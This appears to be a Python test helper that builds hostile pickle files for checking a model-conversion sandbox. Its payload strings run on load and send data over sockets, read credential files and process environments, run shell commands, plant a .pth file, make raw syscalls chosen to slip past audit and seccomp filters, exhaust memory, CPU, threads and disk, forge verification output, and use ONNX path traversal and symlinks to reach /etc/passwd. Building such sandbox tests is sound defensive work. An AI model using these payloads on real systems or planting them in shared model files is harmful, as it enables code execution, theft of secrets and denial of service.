"""Hostile pickles: each runs its code when it is loaded."""

import pickle
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from convert_sources import digits_classifier

_PRELUDE = """
import ctypes, json, os, signal, socket, subprocess, sys, threading, time
out = os.path.join(os.getcwd(), "out")
"""

SOCKET = "socket.create_connection(('127.0.0.1', {port}), 5).sendall(b'loot')"
DATAGRAM = "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'loot', ('127.0.0.1', {port}))"
SWALLOWED_SOCKET = f"""
try: {SOCKET}
except Exception: pass
"""
READ_CREDENTIAL = "open({credential!r}).read()"
READ_OWN_ENVIRONMENT = "raise RuntimeError(' '.join(f'{{k}}={{v}}' for k, v in os.environ.items()))"
READ_PARENTS_ENVIRONMENT = "open(f'/proc/{{os.getppid()}}/environ', 'rb').read()"
WRITE_OUTSIDE = "open({victim!r}, 'a').write('pwned')"
PLANT_CODE = "open(os.path.join(os.path.dirname(os.__file__), 'evil.pth'), 'w').write('import os')"
REMOVE = "os.remove({victim!r})"
FORK = "os.fork()"
RUN_A_SHELL = "subprocess.run(['/bin/sh', '-c', 'echo pwned > {victim}'])"
SYSTEM = "os.system('echo pwned > {victim}')"
KILL_PARENT = "os.kill(os.getppid(), 9)"
# The kernel's calls by their numbers, which no audit event shows: socket, truncate, chmod, link, fork.
RAW_CALLS = """
libc = ctypes.CDLL(None)
for call in ((41, 2, 1, 0), (76, {victim!r}.encode(), 0), (90, {victim!r}.encode(), 0o777),
             (86, {victim!r}.encode(), b'stolen'), (57,)):
    libc.syscall(*(ctypes.c_char_p(a) if isinstance(a, bytes) else ctypes.c_long(a) for a in call))
"""
EAT_MEMORY = "keep = []\nwhile True: keep.append(bytearray(b'x' * (16 << 20)))"
EAT_WHAT_IT_MAY = """
keep = []
while True:
    try: keep.append(bytearray(b"x" * (16 << 20)))
    except MemoryError: time.sleep(0.01)
"""
EAT_AT_ONCE = "keep = bytearray(50 << 30)"
EAT_SHARED_MEMORY = (
    "import mmap\nm = mmap.mmap(-1, 4 << 30)\nfor i in range(0, 4 << 30, 4096): m[i] = 1\nwhile True: time.sleep(1)"
)
SPIN = "while True: pass"
SLEEP = "signal.signal(signal.SIGTERM, signal.SIG_IGN)\nwhile True: time.sleep(999)"
STOP_ITSELF = "os.kill(os.getpid(), signal.SIGSTOP)"
THREAD_THAT_NEVER_ENDS = """
import atexit
atexit.register(time.sleep, 9999)
threading.Thread(target=time.sleep, args=(9999,)).start()
while True: time.sleep(999)
"""
# getpid, in ways that a filter for x86-64 alone would let through.
X32_CALL = "ctypes.CDLL(None).syscall(ctypes.c_long(0x40000000 + 39))"
I386_CALL = """
import mmap
code = mmap.mmap(-1, 4096, prot=7)
code.write(bytes.fromhex("b814000000cd80c3"))
ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(code)))()
"""
FLOOD = "while True: os.write(1, b'A' * 65536)"
MANY_THREADS = """
threading.stack_size(65536)
while True:
    try: threading.Thread(target=time.sleep, args=(999,), daemon=True).start()
    except RuntimeError: time.sleep(1)
"""
MANY_FILES = "i = 0\nwhile True:\n    i += 1; open(f'{{out}}/f{{i}}', 'w').close(); time.sleep(0.0002)"
HUGE_FILE = "with open(out + '/huge', 'wb') as file:\n    while True: file.write(bytes(16 << 20))"
SPARSE_FILE = "open(out + '/huge', 'wb').truncate(1 << 40)"
# What would go on after a process that ends as usual: a thread, an exit handler, a child of its own session.
STAY_BEHIND = """
import atexit
atexit.register(time.sleep, 9999)
threading.Thread(target=time.sleep, args=(9999,)).start()
libc = ctypes.CDLL(None)
if libc.syscall(ctypes.c_long(57)) == 0: os.setsid(); time.sleep(9999)
"""
ODD_TREE = """
open(out.encode() + b'/\\xff\\n\\x1b[2J', 'w').close()
os.mkdir(out + '/locked', 0)
os.chdir(out)
for _ in range(300): os.mkdir('d' * 200); os.chdir('d' * 200)
os._exit(0)
"""
FORGE_VERDICT = """
print(json.dumps({{"report": {{"agreement": 1.0}}, "phase": "verified", "verified": True, "artifact": "0" * 64}}), flush=True)
print(json.dumps({{"phase": "\\x1b[2Jverified " + "x" * 999}}), flush=True)
os.write(1, b'[' * 200000 + b'\\n')
os._exit(0)
"""
LIE = """
from sklearn.linear_model import LogisticRegression
LogisticRegression.predict = lambda self, X: [0] * len(X)
"""
PATCH_CONVERTER = """
import forebay_convert.source.sklearn_source as ours
real = ours.to_onnx
def fake(*args, **kwargs):
    model = real(*args, **kwargs)
    for node in model.graph.node:
        for attribute in node.attribute:
            if attribute.name == "coefficients": attribute.floats[0] += 1000.0
    return model
ours.to_onnx = fake
"""
# Writes what process A is to write by itself, and ends it: `model` and `wanted` are made by the code before it.
_LEAVE = """
from onnx import helper as h, TensorProto as P
def leave(nodes, output, wanted, constants=()):
    graph = h.make_graph(nodes, "g", [h.make_tensor_value_info("x", 1, ["n", 4])], [output], list(constants))
    model = h.make_model(graph, ir_version=8, opset_imports=[h.make_opsetid("", 18)])
    open(out + "/model.onnx", "wb").write(model.SerializeToString())
    np.savez(out + "/samples.npz", x=np.arange(32, dtype=np.float32).reshape(8, 4))
    np.savez(out + "/reference.npz", **{{"0": wanted}})
    os._exit(0)
import numpy as np
y = h.make_tensor_value_info("y", 1, ["n", 4])
identity = [h.make_node("Identity", ["x"], ["y"])]
"""
PICKLE_IN_THE_ARRAYS = (
    _LEAVE
    + """
class Evil:
    def __reduce__(self): return (os.system, ("echo pwned > {victim}",))
leave(identity, y, np.array([Evil()], dtype=object))
"""
)
FORGED_DISAGREEMENT = _LEAVE + "leave(identity, y, np.ones((8, 4), dtype=np.float32))"
EXTERNAL_DATA = (
    _LEAVE
    + """
w = P(); w.name = "w"; w.data_type = 1; w.dims.extend([4]); w.data_location = 1
entry = w.external_data.add(); entry.key = "location"; entry.value = "../../../../../../etc/passwd"
leave([h.make_node("Add", ["x", "w"], ["y"])], y, np.ones((8, 4), dtype=np.float32), [w])
"""
)
ARRAYS_THAT_CLAIM_TERABYTES = (
    _LEAVE
    + """
import io, zipfile
def claim(path, name):
    header = io.BytesIO()
    np.lib.format.write_array_header_1_0(header, dict(descr="<f4", fortran_order=False, shape=(1 << 40,)))
    with zipfile.ZipFile(path, "w") as archive: archive.writestr(name + ".npy", header.getvalue())
np.savez = lambda path, **arrays: [claim(path, name) for name in arrays]
leave(identity, y, np.ones((8, 4), dtype=np.float32))
"""
)
ENDLESS_MODEL = (
    _LEAVE
    + """
i, go, v = (h.make_tensor_value_info(*row) for row in (("i", 7, []), ("go", 9, []), ("v", 1, ["n", 4])))
ends = [h.make_tensor_value_info("goes", 9, []), h.make_tensor_value_info("w", 1, ["n", 4])]
steps = [h.make_node("Identity", ["go"], ["goes"]), h.make_node("Add", ["v", "v"], ["w"])]
body = h.make_graph(steps, "body", [i, go, v], ends)
yes = h.make_tensor("yes", 9, [], [True])
leave([h.make_node("Loop", ["", "yes", "x"], ["y"], body=body)], y, np.ones((8, 4), dtype=np.float32), [yes])
"""
)
MODEL_OF_TERABYTES = (
    _LEAVE
    + """
size = h.make_tensor("size", 7, [2], [1 << 20, 1 << 20])
many = h.make_tensor_value_info("y", 1, ["a", "b"])
leave([h.make_node("ConstantOfShape", ["size"], ["y"])], many, np.ones((8, 4), dtype=np.float32), [size])
"""
)
SYMLINK_AS_MODEL = "ctypes.CDLL(None).symlink(b'/etc/passwd', (out + '/model.onnx').encode())\nos._exit(0)"
CRASH = "ctypes.string_at(0)"


@dataclass(frozen=True)
class _Payload:
    code: str
    honest: bytes | None

    def __reduce__(self) -> tuple[Callable[..., Any], tuple[Any, ...]]:
        if self.honest is None:
            return exec, (self.code, {})
        return eval, (f"(exec({self.code!r}, {{}}), __import__('pickle').loads({self.honest!r}))[1]",)


def hostile_file(folder: Path, code: str, *, honest: bool = False, **names: object) -> Path:
    """A pickle that runs the code; `honest`: and then is the digits classifier."""
    path = folder / "hostile.pkl"
    text = _PRELUDE + code.format(**names)
    path.write_bytes(pickle.dumps(_Payload(text, pickle.dumps(digits_classifier()) if honest else None)))
    return path
